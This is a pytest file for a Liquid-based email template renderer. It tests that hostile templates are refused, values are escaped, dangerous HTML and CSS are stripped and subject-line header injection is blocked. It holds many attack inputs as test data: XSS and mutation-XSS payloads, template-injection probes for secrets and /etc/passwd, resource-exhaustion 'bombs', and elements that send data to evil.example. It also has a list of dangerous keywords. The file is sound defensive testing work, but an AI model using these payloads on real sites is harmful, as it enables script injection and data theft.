"""Templates: what is refused, what is escaped, what a customer gets."""

import contextlib
import resource
import time
from collections.abc import Mapping
from datetime import UTC, datetime

import pytest

from messaging.domain.addresses import HeaderError
from messaging.domain.problems import TemplateError
from messaging.domain.template import Rendered, compile_template, render_template

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)


def write(
    html: str,
    values: Mapping[str, object] | None = None,
    *,
    subject: str = "Hello",
    text: str = "",
) -> Rendered:
    compiled = compile_template(subject=subject, html=html, text=text)
    return render_template(compiled, {"customer": values or {}}, now=NOW)


def refuse(html: str, **fields: str) -> list[tuple[str, int, str]]:
    with pytest.raises(TemplateError) as caught:
        compile_template(**{"subject": "Hello", "html": html, **fields})
    return [(found.field, found.line, found.code) for found in caught.value.problems]


def test_values_are_filled_in_everywhere() -> None:
    rendered = write(
        "<p>Dear {{ customer.name | upcase }}, {{ customer.name | default: '-' }}</p>",
        {"name": "Ann"},
        subject="For {{ customer.name }}",
    )
    assert rendered.subject == "For Ann"
    assert rendered.html == "<p>Dear ANN, Ann</p>"
    assert rendered.text == "Dear ANN, Ann"
    assert rendered.problems == []


REFUSED = [
    # H28: refused by the scan; Liquid would take minutes
    ("{{" * 20_000, [("html", 1, "liquid.braces")]),
    ("{{ " * 20_000, [("html", 1, "liquid.nested")]),
    ("{" * 60_000, [("html", 1, "liquid.braces")]),
    ("{" * 100_000, [("html", 1, "template.too_long")]),
    ("x" * 70_000, [("html", 1, "template.too_long")]),
    ("a\n{{ x", [("html", 2, "liquid.unclosed")]),
    ("{{ " + "x" * 600 + " }}", [("html", 1, "liquid.unclosed")]),
    ("{{ a {% if b %}", [("html", 1, "liquid.nested")]),
    ("{{ }}", [("html", 1, "liquid.empty")]),
    ("{{ a }}" * 2_001, [("html", 1, "liquid.too_many")]),
    ("a\x00", [("html", 1, "template.nul")]),
    # H30: no way to files, settings or other templates
    ("\n{% include '/etc/passwd' %}", [("html", 2, "liquid.tag")]),
    ("{% render 'x' %}", [("html", 1, "liquid.tag")]),
    ("{% load x %}", [("html", 1, "liquid.tag")]),
    ("{% debug %}", [("html", 1, "liquid.tag")]),
    ("{{ 7*7 }}", [("html", 1, "liquid.syntax")]),
    # Ways round the sanitiser and the escaping
    ("{% raw %}{{ <script> }}{% endraw %}", [("html", 1, "liquid.tag")]),
    ("{% capture x %}<b>{% endcapture %}", [("html", 1, "liquid.tag")]),
    ("{% <script>alert(1)</script> %}", [("html", 1, "liquid.nameless")]),
    ("{{ customer.name | safe }}", [("html", 1, "liquid.filter")]),
    ("{{ 'PGI+' | base64_decode }}", [("html", 1, "liquid.filter")]),
    ("{{ a | url_decode }}", [("html", 1, "liquid.filter")]),
    # Ranges are the one loop over nothing
    ("{% for i in (1..1000000) %}a{% endfor %}", [("html", 1, "liquid.range")]),
    ("{% for i in (1..n) reversed %}a{% endfor %}", [("html", 1, "liquid.range")]),
    # Ordinary mistakes
    ("<p>\n{% if a %}x", [("html", 2, "liquid.block")]),
    ("{% endif %}", [("html", 1, "liquid.block")]),
    ("{% for a in b %}\n{% endif %}", [("html", 2, "liquid.block")]),
    ("<p>\n\n{{ a | nonsense }}", [("html", 3, "liquid.filter")]),
    ("{% if a %}" * 40 + "{% endif %}" * 40, [("html", 1, "liquid.syntax")]),
    # Liquid where HTML cannot keep it
    ("<p>\n<{{ tag }}>x</p>", [("html", 2, "liquid.place")]),
    ("<a {{ attrs }}>x</a>", [("html", 1, "liquid.place")]),
    ('<p style="color: {{ c }}">x</p>', [("html", 1, "liquid.place")]),
    ("<script>var a = {{ a }}</script>", [("html", 1, "liquid.place")]),
    ('<a href="javascript:{{ a }}">x</a>', [("html", 1, "liquid.place")]),
    ("<a href=\"{{ 'javascript' }}:alert(1)\">x</a>", [("html", 1, "liquid.place")]),
    ('\n<a href="{{ base }}/x">x</a>', [("html", 2, "liquid.link")]),
]


@pytest.mark.parametrize(("html", "problems"), REFUSED)
def test_hostile_and_broken_bodies_are_refused_at_once(
    html: str, problems: list[tuple[str, int, str]]
) -> None:
    started = time.process_time()
    assert refuse(html) == problems
    assert time.process_time() - started < 0.5


def test_the_scan_refuses_unbalanced_braces_in_fifty_milliseconds() -> None:
    started = time.process_time()
    refuse("{{" * 20_000)
    refuse("{" * 60_000)
    assert time.process_time() - started < 0.1


def test_every_field_names_its_own_problems() -> None:
    assert refuse("{% if %}", subject="{{ a", text="x\n{{ }}") == [
        ("subject", 1, "liquid.unclosed"),
        ("html", 1, "liquid.block"),
        ("text", 2, "liquid.empty"),
    ]
    assert refuse("<p>x</p>", subject=" ") == [("subject", 1, "subject.empty")]
    assert refuse("<p>x</p>", subject="a\nb") == [("subject", 1, "subject.lines")]


EMPTY = [
    "{{ customer.__class__ }}",
    "{{ customer.name.__class__.__mro__ }}",
    "{{ settings.SECRET_KEY }}",
    "{{ env.PATH }}",
    "{{ customer.keys }}",
    "{{ customer.name.upper }}",
    "{{ self }}{{ request.user }}{{ config }}",
]


@pytest.mark.parametrize("html", EMPTY)
def test_nothing_but_given_data_can_be_read(html: str) -> None:
    rendered = write(html, {"name": "Ann"})
    assert rendered.html == ""
    assert {problem.code for problem in rendered.problems} == {"liquid.missing"}


def test_a_missing_value_is_advice_with_its_line() -> None:
    rendered = write("<table>\n<tr><td>\n{{ customer.plan }}</td></tr></table>")
    (problem,) = rendered.problems
    assert (problem.field, problem.line, problem.level) == ("html", 3, "advice")
    assert problem.message.startswith("customer.plan is not known")
    assert write("{{ customer.plan | default: 'none' }}").problems == []
    assert write("{% if customer.plan %}x{% endif %}").problems == []


def test_the_clock_of_a_template_is_ours() -> None:
    html = "{{ now | date: '%Y-%m-%d' }} {{ today | date: '%H:%M' }}"
    assert write(html).html == "2026-03-01 12:00"


# H29: amplification. Each stops at a bound and says where
BOMBS = [
    "{{ customer.a | replace: '', customer.a | size }}",
    "{% assign x = customer.a %}"
    "{% for i in (1..30) %}{% assign x = x | append: x %}{% endfor %}",
    "{% assign x = 9 %}"
    "{% for i in (1..90) %}{% assign x = x | times: x %}{% endfor %}{{ x }}",
    "{% assign x = customer.b %}"
    "{% for i in (1..30) %}{% assign x = x | concat: x %}{% endfor %}",
    "{{ customer.b | join: customer.a }}",
    "{{ customer.a | split: '' | join: customer.a }}",
    "{{ now | date: '%1000000000d' }}",
    "{% for i in (1..100) %}{% for j in (1..100) %}x{% endfor %}{% endfor %}",
    "{% for i in (1..100) %}" + "{{ customer.a | upcase }}" * 500 + "{% endfor %}",
    "{% for i in customer.b %}" + "{% assign y = i %}" * 900 + "{% endfor %}" * 1,
    "{% for i in customer.b %}" + "{{ customer.a }}" * 90 + "{% endfor %}",
]


@pytest.mark.parametrize("html", BOMBS)
def test_a_bomb_stops_in_a_second_and_a_few_megabytes(html: str) -> None:
    values = {"a": "x" * 32_768, "b": ["y" * 4_000] * 100}
    compiled = compile_template(subject="Hello", html=html)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()
    with contextlib.suppress(TemplateError):
        render_template(compiled, {"customer": values}, now=NOW)
    assert time.process_time() - started < 1
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 64 * 1024  # kilobytes


def test_what_a_template_sees_is_small_and_plain() -> None:
    compiled = compile_template(
        subject="Hello",
        html="{{ customer.a | size }} {{ customer.b | size }} {{ customer.c }}"
        "{{ customer.d.d.d.d.d.d.d }}|{{ customer.n }} {{ customer.f }}",
    )
    deep: dict[str, object] = {}
    for _ in range(20):
        deep = {"d": deep}
    values = {
        "a": "x" * 10_000,
        "b": list(range(500)),
        "c": object(),
        "d": deep,
        "n": 10**30,
        "f": 12.0,
    }
    rendered = render_template(compiled, {"customer": values}, now=NOW)
    assert rendered.html == f"4096 100 |{10**30} 12"


SCRIPT = "<script>alert(1)</script>"
QUOTES = '" onmouseover="x'
ESCAPED = [  # H31, H32: template, value, HTML
    ("<p>{{ customer.v }}</p>", SCRIPT, "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("<p>{{ customer.v | escape }}</p>", "a & b", "<p>a &amp; b</p>"),
    (
        '<p title="{{ customer.v }}">x</p>',
        QUOTES,
        '<p title="&quot; onmouseover=&quot;x">x</p>',
    ),
    ("<p>{{ customer.v }}</p>", "{{ secret }}", "<p>{{ secret }}</p>"),
    ("<p>{{ customer.v }}</p>", "{% raw %}", "<p>{% raw %}</p>"),
    ("{{ '<b>' }}{{ customer.v | append: '<i>' }}", "x", "&lt;b&gt;x&lt;i&gt;"),
    (
        '<a href="{{ customer.v }}">x</a>',
        "javascript:alert(1)",
        '<a href="#" rel="noopener noreferrer">x</a>',
    ),
    (
        '<a href="{{ customer.v }}">x</a>',
        " java\tscript:alert(1)",
        '<a href="#" rel="noopener noreferrer">x</a>',
    ),
    (
        '<a href="{{ customer.v }}">x</a>',
        "https://example.com/?a=1&b=2",
        '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer">x</a>',
    ),
    (
        '<a href="https://example.com/{{ customer.v }}">x</a>',
        '../"x y',
        '<a href="https://example.com/..%2F%22x%20y" rel="noopener noreferrer">x</a>',
    ),
    (
        '<a href="https://example.com/{{ customer.v | url_encode -}}">x</a>',
        "a b",
        '<a href="https://example.com/a%20b" rel="noopener noreferrer">x</a>',
    ),
    ('<img src="{{ customer.v }}">', "data:text/html,x", '<img src="#">'),
]


@pytest.mark.parametrize(("html", "value", "expected"), ESCAPED)
def test_values_cannot_leave_their_place(html: str, value: str, expected: str) -> None:
    assert write(html, {"v": value}).html == expected


REMOVED = [  # H33
    "<svg onload=alert(1)>x</svg>",
    '<math><annotation-xml encoding="text/html"><style><img onerror=alert(1)>'
    "</style></annotation-xml></math>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name=x></form>',
    "<script>alert(1)</script>",
    "<style>@import url(https://evil.example/)</style>",
    "<object data=x></object><embed src=x>",
    "<!-- [if mso]><script>alert(1)</script><![endif] -->",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
]
DANGEROUS = (
    *("<script", "onerror=", "onload", "<svg", "<math", "<base", "<meta", "<form"),
    *("<iframe", "<style", "<object", "evil.example", "javascript:", "<template"),
)


@pytest.mark.parametrize("html", REMOVED)
def test_dangerous_elements_are_removed(html: str) -> None:
    written = write(f"<p>a</p>{html}<p>b</p>").html
    assert written.startswith("<p>a</p>")
    for word in DANGEROUS:
        assert word not in written.replace("&lt;", "<!")


STYLES = [
    ("color: red; padding: 4px 8px", True),
    ("color: rgb(1, 2, 3)", True),
    ("background:url(javascript:1)", False),
    ("background:url(https://evil.example/?{{customer.email}})", False),
    ("width: expression(alert(1))", False),
    ("color: r\\65d", False),
    ("behavior: url(x)", False),
]


@pytest.mark.parametrize(("style", "kept"), STYLES)
def test_styles_stay_only_when_they_load_nothing(style: str, kept: bool) -> None:
    if "{{" in style:
        assert refuse(f'<p style="{style}">x</p>') == [("html", 1, "liquid.place")]
        return
    assert ("style=" in write(f'<p style="{style}">x</p>').html) is kept


def test_removed_elements_are_named_with_their_line() -> None:
    compiled = compile_template(subject="Hello", html="<p>a</p>\n<form>x</form>")
    (advice,) = compiled.advice
    assert (advice.line, advice.code, advice.level) == (2, "html.removed", "advice")
    assert "<form>" in advice.message


def test_loops_may_stand_between_table_rows() -> None:
    html = (
        "<table><tr><th>Item</th></tr>{% for i in customer.items %}"
        "<tr><td>{{ i }}</td></tr>{% endfor %}</table>"
    )
    rendered = write(html, {"items": ["a", "b"]})
    assert rendered.html.count("<tr>") == 3
    assert "<td>a</td></tr><tr><td>b</td>" in rendered.html
    assert rendered.text.split() == ["Item", "a", "b"]


def test_conditions_may_stand_inside_attributes() -> None:
    html = '<p title="{% if customer.vip %}VIP{% else %}friend{% endif %}">x</p>'
    assert write(html, {"vip": True}).html == '<p title="VIP">x</p>'
    assert write(html).html == '<p title="friend">x</p>'


def test_plain_text_is_made_from_the_html() -> None:
    html = (
        "<h1>Welcome</h1><p>Dear   {{ customer.name }},<br>see "
        '<a href="https://example.com/?n={{ customer.name }}">the shop</a>.</p>'
        "<ul><li>one</li><li>two &amp; three</li></ul><hr>"
        '<img src="https://example.com/x.png" alt="A picture">'
    )
    assert write(html, {"name": "A & B"}).text == (
        "Welcome\n\nDear A & B,\nsee the shop (https://example.com/?n=A%20%26%20B).\n\n"
        "- one\n\n- two & three\n\n----\nA picture"
    )


def test_an_own_text_part_is_used_and_not_escaped() -> None:
    rendered = write("<p>x</p>", {"name": "A & B"}, text="Dear {{ customer.name }}")
    assert rendered.text == "Dear A & B"


@pytest.mark.parametrize("value", ["x\r\nBcc: evil@example.com", "a\nb", "a\u2028b"])
def test_a_line_break_in_the_subject_is_refused(value: str) -> None:
    with pytest.raises(HeaderError):
        write("<p>x</p>", {"v": value}, subject="For {{ customer.v }}!")


def test_control_characters_leave_the_subject() -> None:
    rendered = write("<p>x</p>", {"v": "a\x07b\u202ec"}, subject="For {{ customer.v }}")
    assert rendered.subject == "For abc"


def test_a_bound_that_is_reached_names_the_line() -> None:
    compiled = compile_template(
        subject="Hello", html="<p>\n\n{{ customer.a | replace: '', customer.a }}</p>"
    )
    with pytest.raises(TemplateError, match="64 kB") as caught:
        render_template(compiled, {"customer": {"a": "x" * 4_000}}, now=NOW)
    (problem,) = caught.value.problems
    assert (problem.field, problem.line, problem.code) == ("html", 3, "liquid.render")
